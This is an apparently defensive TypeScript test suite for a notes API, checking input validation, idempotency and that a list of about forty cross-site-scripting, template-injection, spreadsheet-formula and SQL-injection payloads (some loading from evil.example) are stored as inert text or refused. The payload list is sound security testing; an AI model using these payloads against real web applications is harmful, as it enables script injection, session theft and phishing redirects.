import { Note, NoteAudience, NotePeople, pageOf, type ProblemBody, type RichText } from '@querraum/contracts';
import { DEMO, DEMO_PEOPLE, DEMO_UNITS, openTestDatabase, type TestDatabase } from '@querraum/server/testing';
import { buildSubject, noteWords, publishLeadTask } from '../access.world';
import { startTestApi, type TestApi } from '../testing';

const WRITER = 'tobias.brandt';
const JUG = DEMO_UNITS['BA-MITTE/JUG'] ?? '';
const PETRA = DEMO_PEOPLE['petra.wieland']?.id ?? '';

/** What browsers have run, templates have read and spreadsheets have computed, where text was taken for more than text. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">hier</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">hier</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example>',
  '<form action=//evil.example><button>Anmelden</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=//evil.example/x.swf>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  ['javascript', 'alert(1)'].join(':'),
  '[hier](javascript:alert(1))',
  '=HYPERLINK("https://evil.example","hier")',
  "'; drop table note; --",
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

describe('notes', () => {
  let database: TestDatabase;
  let api: TestApi;
  let projectId: string;
  const post = (body: unknown, key?: string | null, as = WRITER) =>
    api.request<Note & ProblemBody>('POST', `/projects/${projectId}/notes`, { as, body, key });
  const add = (content: unknown) => post({ unitId: JUG, visibility: 'unit', content });
  const get = async (path: string, as = WRITER) => (await api.request('GET', path, { as })).body;

  beforeAll(async () => {
    database = await openTestDatabase(DEMO);
    api = await startTestApi(database);
    await publishLeadTask(database);
    ({ projectId } = await buildSubject(api, 'mitte', 'draft'));
  });
  afterAll(async () => {
    await api.close();
    await database.close();
  });

  it('are written, listed, read alone and corrected, as the contract says', async () => {
    const audience = NoteAudience.parse(await get(`/projects/${projectId}/notes/audience`));
    expect(audience.units.map(({ name }) => name)).toEqual(['Jugendamt']);
    expect(audience.parties).toHaveLength(5);
    const people = `/projects/${projectId}/notes/people?visibility=unit&unitId=${JUG}`;
    const { items } = NotePeople.parse(await get(people));
    expect(items.map(({ name }) => name)).toEqual(['Nadja Kowalski', 'Petra Wieland']);
    const added = await add(noteWords('Bitte prüfen'));
    expect(added.status).toBe(201);
    const first = Note.parse(added.body);
    const corrected = await api.request('POST', `/notes/${first.id}/corrections`, {
      as: 'nadja.kowalski',
      body: { content: noteWords('Ist geprüft') },
    });
    const second = Note.parse(corrected.body);
    expect(
      pageOf(Note)
        .parse(await get(`/projects/${projectId}/notes`))
        .items.slice(0, 2),
    ).toMatchObject([
      { id: second.id, corrects: first.id },
      { id: first.id, correctedBy: second.id },
    ]);
    expect(await get(`/notes/${second.id}`)).toEqual({ ...second, allowed: ['correct', 'ask'] });
    expect(await get(`/notes/${first.id}`, 'jonas.albrecht')).toMatchObject({ code: 'notFound' });
  });

  it.each([
    ['nothing', {}],
    ['no visibility', { unitId: JUG, content: noteWords('x') }],
    ['a visibility that there is not', { unitId: JUG, visibility: 'public', content: noteWords('x') }],
    ['HTML in place of a document', { unitId: JUG, visibility: 'unit', content: '<p>x</p>' }],
    ['a field that there is not', { unitId: JUG, visibility: 'unit', content: noteWords('x'), authorId: PETRA }],
    ['the lower half of a letter', { unitId: JUG, visibility: 'unit', content: noteWords('\uDC00') }],
    ['NUL', { unitId: JUG, visibility: 'unit', content: noteWords('a\0b') }],
    ['a list', []],
  ])('are refused with %s', async (_, body) => {
    const before = await get(`/projects/${projectId}/notes`);
    expect(await post(body)).toMatchObject({ status: 400, body: { code: 'invalidInput' } });
    expect(await get(`/projects/${projectId}/notes`)).toEqual(before);
  });

  it('say which node, mark or attribute is not taken, in the language of the reader', async () => {
    const image = { type: 'doc', content: [{ type: 'image', attrs: { src: 'x' } }] };
    const errorsOf = async (content: unknown, language: string) =>
      (
        await api.request<ProblemBody>('POST', `/projects/${projectId}/notes`, {
          as: WRITER,
          body: { unitId: JUG, visibility: 'unit', content },
          headers: { 'accept-language': language },
        })
      ).body.errors;
    expect(await errorsOf(image, 'de')).toEqual([
      {
        path: 'content.content.0.type',
        message: 'Das gibt es hier nicht. Erlaubt: paragraph, bulletList, orderedList',
      },
    ]);
    expect(await errorsOf(image, 'en')).toEqual([
      {
        path: 'content.content.0.type',
        message: 'This does not exist here. Permitted: paragraph, bulletList, orderedList',
      },
    ]);
    const styled = { type: 'doc', content: [{ type: 'paragraph', attrs: { style: 'x' } }] };
    expect(await errorsOf(styled, 'de')).toEqual([
      { path: 'content.content.0', message: expect.stringContaining('attrs') },
    ]);
  });

  it('take a text as deep as a body can be for what it is: too deep', async () => {
    const deep = `${'{"type":"bulletList","content":[{"type":"listItem","content":['.repeat(8000)}${']}]}'.repeat(8000)}`;
    const response = await fetch(`${api.url}/projects/${projectId}/notes`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${await api.tokenFor(WRITER)}`,
        'idempotency-key': crypto.randomUUID(),
        'content-type': 'application/json',
      },
      body: `{"unitId":"${JUG}","visibility":"unit","content":{"type":"doc","content":[${deep}]}}`,
    });
    expect(response.status).toBe(400);
  });

  it('need a key, and do with one what they did before', async () => {
    const body = { unitId: JUG, visibility: 'unit', content: noteWords('Einmal') };
    expect(await post(body, null)).toMatchObject({ status: 400, body: { code: 'idempotencyKeyRequired' } });
    const key = crypto.randomUUID();
    const first = await post(body, key);
    expect((await post(body, key)).body).toEqual(first.body);
    expect(await post({ ...body, content: noteWords('Anders') }, key)).toMatchObject({
      body: { code: 'idempotencyKeyReused' },
    });
  });

  it.each(PAYLOADS)('keep %s as the words that it is, as JSON and nothing else', async (payload) => {
    const { status, body, headers } = await add(noteWords(payload));
    expect(status).toBe(201);
    expect(headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(body.text).toBe(payload);
    expect(await get(`/notes/${body.id}`)).toMatchObject({ content: noteWords(payload), text: payload });
    const found = await get(`/projects/${projectId}/notes?query=${encodeURIComponent(payload.slice(0, 100))}`);
    expect(
      pageOf(Note)
        .parse(found)
        .items.map(({ id }) => id),
    ).toContain(body.id);
  });

  it('refuse every one of them as an address, a type, a mark and the id of a person', async () => {
    const text = (mark: unknown) => ({
      type: 'doc',
      content: [{ type: 'paragraph', content: [{ type: 'text', text: 'x', marks: [mark] }] }],
    });
    for (const payload of PAYLOADS)
      for (const content of [
        text({ type: 'link', attrs: { href: payload } }),
        text({ type: payload }),
        { type: payload, content: [] },
        { type: 'doc', content: [{ type: payload }] },
        {
          type: 'doc',
          content: [{ type: 'paragraph', content: [{ type: 'mention', attrs: { personId: payload, name: '' } }] }],
        },
      ])
        expect([payload, (await add(content)).status]).toEqual([payload, 400]);
  }, 60_000);

  it('put the name that the house knows in place of whatever stands in a mention', async () => {
    for (const payload of PAYLOADS.slice(0, 5)) {
      const content: RichText = {
        type: 'doc',
        content: [{ type: 'paragraph', content: [{ type: 'mention', attrs: { personId: PETRA, name: payload } }] }],
      };
      expect((await add(content)).body.text).toBe('@Petra Wieland');
    }
    // A house may call somebody anything; it stays a text.
    await database.owner.query("update person set name = '<img src=x onerror=alert(1)>' where id = $1", [PETRA]);
    const content = {
      type: 'doc',
      content: [{ type: 'paragraph', content: [{ type: 'mention', attrs: { personId: PETRA } }] }],
    };
    expect((await add(content)).body.text).toBe('@<img src=x onerror=alert(1)>');
  });
});
